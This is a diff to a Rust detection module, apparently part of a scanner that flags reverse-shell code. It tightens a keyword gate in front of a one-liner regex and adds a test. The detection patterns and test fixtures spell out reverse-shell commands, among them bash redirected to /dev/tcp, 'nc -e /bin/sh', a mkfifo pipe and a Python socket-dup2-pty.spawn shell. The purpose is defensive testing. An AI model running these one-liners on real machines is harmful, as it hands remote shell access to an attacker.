@@ -31,9 +31,11 @@ static WIRE: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r#"(?-u:\b)(?:os\.)?dup2\s*\(\s*\w+\.fileno\(\)\s*,\s*(?:[012]|sys\.std(?:in|out|err)\.fileno\(\))\s*\)|(?-u:\b)pty\.spawn\s*\(|subprocess\.(?:call|Popen|run)\s*\(\s*\[?\s*['"](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)['"][^)]*std(?:in|out)\s*=\s*\w+"#).expect("wire")
 });
 /// Words every [`ONE_LINER`] match contains (ASCII case-insensitively): `/dev/` (the
-/// `/dev/tcp` forms), `-e` (`nc -e sh`, `nc -e cmd`), `mkfifo`. Its gate
-/// ([`TextFile::may_contain_ci`]).
-static ONE_LINER_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| super::pysrc::gate(&["/dev/", "-e", "mkfifo"]));
+/// `/dev/tcp` forms), `-e` and the whitespace `\s+` requires after it (`nc -e sh`, `nc -e
+/// cmd`; the gate only skips ASCII text, where `\s` is one of these six bytes, and a bare
+/// `-e` is in every `non-empty` and `--exclude`), `mkfifo`. Its gate ([`TextFile::may_contain_ci`]).
+static ONE_LINER_WORDS: LazyLock<AhoCorasick> =
+    LazyLock::new(|| super::pysrc::gate(&["/dev/", "-e ", "-e\t", "-e\n", "-e\r", "-e\x0b", "-e\x0c", "mkfifo"]));
 static ONE_LINER: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(r"(?i)(?:(?-u:\b)(?:ba)?sh\s+-i\s*>&\s*/dev/(?:tcp|udp)/|/dev/tcp/[\w.-]+/\d+|(?-u:\b)nc(?:at)?(?:\.exe)?\s+(?:[\w.-]+\s+\d+\s+)?-e\s+(?:/bin/)?(?:ba)?sh|(?-u:\b)nc(?:at)?\s+-e\s+cmd|mkfifo\s+/tmp/\w+\s*;\s*(?:cat|nc)|0<&\d+;\s*exec\s+\d+<>/dev/tcp)").expect("one-liner")
 });
@@ -98,6 +100,25 @@ mod tests {
     use Severity::*;
 
     const CLASSIC: &str = "import socket,os,pty\ns=socket.socket()\ns.connect((H,4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\npty.spawn('/bin/sh')\n";
+
+    #[test]
+    fn one_liner_gate_never_hides_a_match() {
+        let cases = [
+            ("bash to /dev/tcp", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true),
+            ("nc -e, upper case", "NC 10.0.0.1 4444 -E /BIN/SH", true),
+            ("ncat -e with a tab", "ncat -e\tcmd", true),
+            ("nc -e across a line break", "nc 10.0.0.1 4444 -e\n/bin/sh", true),
+            ("nc -e before a form feed", "nc -e\x0csh", true),
+            ("mkfifo", "mkfifo /tmp/f; cat /tmp/f", true),
+            ("exec to /dev/tcp", "0<&196;exec 196<>/dev/tcp/h/80", true),
+            ("a hyphen before an e is no one-liner", "non-empty --exclude re-enter", false),
+        ];
+        for (case, text, matches) in cases {
+            assert_eq!(ONE_LINER.is_match(text), matches, "{case}: the regex");
+            let file = TextFile::new("pkg/a.py", crate::model::FileRole::Runtime, true, text);
+            assert_eq!(file.may_contain_ci(&ONE_LINER_WORDS), matches, "{case}: the gate");
+        }
+    }
 
     #[test]
     fn cases() {
